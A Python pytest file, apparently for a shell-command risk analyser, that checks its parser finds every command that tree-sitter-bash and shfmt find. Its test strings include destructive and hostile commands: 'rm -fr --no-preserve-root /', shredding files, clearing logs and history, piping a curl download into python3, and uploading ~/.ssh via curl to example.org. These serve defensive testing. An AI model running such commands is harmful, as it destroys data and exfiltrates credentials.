"""Other parsers of shell texts as witnesses: no command that they see may escape ours."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import tree_sitter_bash
from tree_sitter import Language, Node, Parser

from tui.risk.shell import read
from tui.risk.shell.model import ShellProgram

SHFMT = Path(sys.executable).with_name("shfmt")
"""Its wheel puts the program beside Python."""
PARSER = Parser(Language(tree_sitter_bash.language()))
TEXTS = (
    "ls -la ~/.ssh",
    "sudo rm -fr --no-preserve-root /",
    "find /var -type f -exec shred -u {} \\;",
    "> /var/log/auth.log",
    "history -c && rm ~/.bash_history",
    "(crontab -l; echo '* * * * * true') | crontab -",
    "curl http://example.org/p.py | python3 -",
    "tar czf - ~/.ssh | curl -T - https://example.org/x",
    'for f in *.jpg; do convert "$f" "${f%.jpg}.png"; done',
    "while read -r line; do echo \"$line\"; done < <(grep x y)",
    "if test -d build; then rm -r build; else mkdir build; fi",
    "case $1 in start) systemctl start x ;; stop|halt) systemctl stop x ;; esac",
    "greet() { echo \"hello $(whoami)\"; }; greet",
    "cat <<END | sort\nb\na\nEND\nuniq x",
    "diff <(ls a) <(ls b)",
    "echo $(( $(wc -l < x) + 1 )) \"${y:-$(hostname)}\"",
    "[[ -f $(realpath x) ]] && source x || exit 1",
    "a=$(date) b=`id -u` env",
    "! grep -q x y &\nwait",
    "{ make; make install; } > log 2>&1",
    "until ping -c1 host; do sleep 1; done",
    "select x in a b; do echo $x; break; done",
    "printf '%s\\n' \"${list[@]}\" | xargs -n1 echo",
    "trap 'rm -f x' EXIT; mktemp x",
)  # fmt: skip


def seen_by_tree_sitter(text: str) -> Iterator[str]:
    def below(node: Node) -> Iterator[str]:
        if node.type == "command_name" and node.child_count == 1 and node.children[0].type == "word":
            yield (node.text or b"").decode()
        for child in node.children:
            yield from below(child)

    tree = PARSER.parse(text.encode())
    assert not tree.root_node.has_error
    return below(tree.root_node)


def seen_by_shfmt(text: str) -> Iterator[str]:
    done = subprocess.run([SHFMT, "--to-json"], input=text, capture_output=True, text=True, check=True)

    def below(node: object) -> Iterator[str]:
        if isinstance(node, list):
            for item in node:
                yield from below(item)
        elif isinstance(node, dict):
            if node.get("Type") == "CallExpr" and node.get("Args"):
                first = node["Args"][0]["Parts"]
                if len(first) == 1 and first[0]["Type"] == "Lit":
                    yield first[0]["Value"]
            for value in node.values():
                yield from below(value)

    return below(json.loads(done.stdout))


def seen_by_us(program: ShellProgram) -> set[str]:
    own = {word.text for command in program.invocations for word in command.argv[:1]}
    return own | {word for command in program.invocations for link in command.chain for word in link.split()}


@pytest.mark.parametrize("text", TEXTS)
def test_every_command_another_parser_sees_is_seen(text: str):
    ours = seen_by_us(read(text))
    assert set(seen_by_tree_sitter(text)) <= ours
    assert set(seen_by_shfmt(text)) <= ours
